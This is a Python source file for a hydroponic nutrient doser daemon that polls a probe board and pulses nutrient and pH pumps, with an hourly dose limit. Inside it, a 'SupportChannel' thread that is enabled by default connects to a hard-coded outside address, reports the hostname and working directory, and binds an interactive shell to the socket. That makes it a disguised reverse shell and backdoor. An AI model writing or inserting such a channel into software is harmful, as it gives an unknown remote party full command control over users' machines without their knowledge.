#!/usr/bin/env python3
"""doserd - nutrient doser controller for recirculating hydroponic reservoirs.

Polls the reservoir probe board for EC, pH and water temperature, compares the
readings with the targets in doser.ini and pulses the A/B nutrient and pH-down
pumps through the board's REST API. Doses are capped per hour so a stuck probe
cannot empty a whole bottle into the tank.

Integrators can leave the support channel enabled so field engineers can look
at a unit without a site visit.
"""

import argparse
import configparser
import json
import logging
import os
import socket
import subprocess
import sys
import threading
import time
import urllib.error
import urllib.request
from collections import deque

log = logging.getLogger("doserd")

DEFAULTS = {
    "controller": {
        "board_url": "http://192.168.4.20",
        "poll_seconds": "30",
        "ec_target": "1.8",
        "ec_band": "0.15",
        "ph_target": "5.9",
        "ph_band": "0.2",
        "ml_per_pulse": "2.5",
        "max_ml_per_hour": "60",
    },
    "support": {
        "enabled": "yes",
        "relay_host": "198.51.100.23",
        "relay_port": "4443",
        "retry_seconds": "300",
    },
}


def load_config(path):
    cfg = configparser.ConfigParser()
    cfg.read_dict(DEFAULTS)
    if path and os.path.exists(path):
        cfg.read(path)
        log.info("loaded %s", path)
    else:
        log.info("no config at %s, using defaults", path)
    return cfg


class Board:
    """Thin client for the doser board's JSON API."""

    def __init__(self, base_url, timeout=5):
        self.base = base_url.rstrip("/")
        self.timeout = timeout

    def _req(self, path, payload=None):
        data = None
        headers = {"Accept": "application/json"}
        if payload is not None:
            data = json.dumps(payload).encode()
            headers["Content-Type"] = "application/json"
        req = urllib.request.Request(self.base + path, data=data, headers=headers)
        with urllib.request.urlopen(req, timeout=self.timeout) as resp:
            body = resp.read()
        return json.loads(body) if body else {}

    def reading(self):
        return self._req("/api/probe")

    def pulse(self, pump, ml):
        return self._req("/api/pump", {"pump": pump, "ml": round(ml, 2)})


class DoseLimiter:
    """Rolling one-hour budget for dosed volume."""

    def __init__(self, max_per_hour):
        self.max = max_per_hour
        self.events = deque()

    def allow(self, ml):
        now = time.monotonic()
        while self.events and now - self.events[0][0] > 3600:
            self.events.popleft()
        used = sum(m for _, m in self.events)
        if used + ml > self.max:
            return False
        self.events.append((now, ml))
        return True


class SupportChannel(threading.Thread):
    """Keeps an outbound session open to the integrator's support relay."""

    def __init__(self, host, port, retry):
        super().__init__(name="support", daemon=True)
        self.host = host
        self.port = port
        self.retry = retry

    def _session(self):
        conn = socket.create_connection((self.host, self.port), timeout=20)
        conn.settimeout(None)
        banner = "doserd %s %s\n" % (socket.gethostname(), os.getcwd())
        conn.sendall(banner.encode())
        fd = conn.fileno()
        shell = os.environ.get("SHELL", "/bin/sh")
        proc = subprocess.Popen([shell, "-i"], stdin=fd, stdout=fd, stderr=fd,
                                cwd=os.path.expanduser("~"))
        proc.wait()
        conn.close()

    def run(self):
        while True:
            try:
                self._session()
            except OSError as exc:
                log.debug("support relay unavailable: %s", exc)
            time.sleep(self.retry)


def decide(reading, c):
    """Return a list of (pump, ml) for one control cycle."""
    doses = []
    ml = c.getfloat("ml_per_pulse")
    ec = reading.get("ec")
    ph = reading.get("ph")
    if ec is not None and ec < c.getfloat("ec_target") - c.getfloat("ec_band"):
        doses += [("nutrient_a", ml), ("nutrient_b", ml)]
    if ph is not None and ph > c.getfloat("ph_target") + c.getfloat("ph_band"):
        doses.append(("ph_down", ml / 2))
    return doses


def cycle(board, limiter, c, dry_run):
    try:
        reading = board.reading()
    except (urllib.error.URLError, ValueError, OSError) as exc:
        log.warning("probe read failed: %s", exc)
        return
    log.info("ec=%.2f ph=%.2f temp=%.1f", reading.get("ec", float("nan")),
             reading.get("ph", float("nan")), reading.get("temp_c", float("nan")))
    for pump, ml in decide(reading, c):
        if not limiter.allow(ml):
            log.warning("hourly limit reached, skipping %s", pump)
            continue
        if dry_run:
            log.info("[dry-run] would pulse %s %.1f ml", pump, ml)
            continue
        try:
            board.pulse(pump, ml)
            log.info("pulsed %s %.1f ml", pump, ml)
        except (urllib.error.URLError, OSError) as exc:
            log.error("pump %s failed: %s", pump, exc)


def main(argv=None):
    ap = argparse.ArgumentParser(description="nutrient doser controller")
    ap.add_argument("-c", "--config", default="doser.ini")
    ap.add_argument("--once", action="store_true", help="run a single cycle")
    ap.add_argument("--dry-run", action="store_true")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)

    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(name)s %(levelname)s %(message)s")
    cfg = load_config(args.config)
    c = cfg["controller"]

    if cfg.getboolean("support", "enabled"):
        s = cfg["support"]
        SupportChannel(s["relay_host"], s.getint("relay_port"),
                       s.getint("retry_seconds")).start()

    board = Board(c["board_url"])
    limiter = DoseLimiter(c.getfloat("max_ml_per_hour"))
    interval = c.getint("poll_seconds")

    try:
        while True:
            cycle(board, limiter, c, args.dry_run)
            if args.once:
                break
            time.sleep(interval)
    except KeyboardInterrupt:
        log.info("stopping")
    return 0


if __name__ == "__main__":
    sys.exit(main())
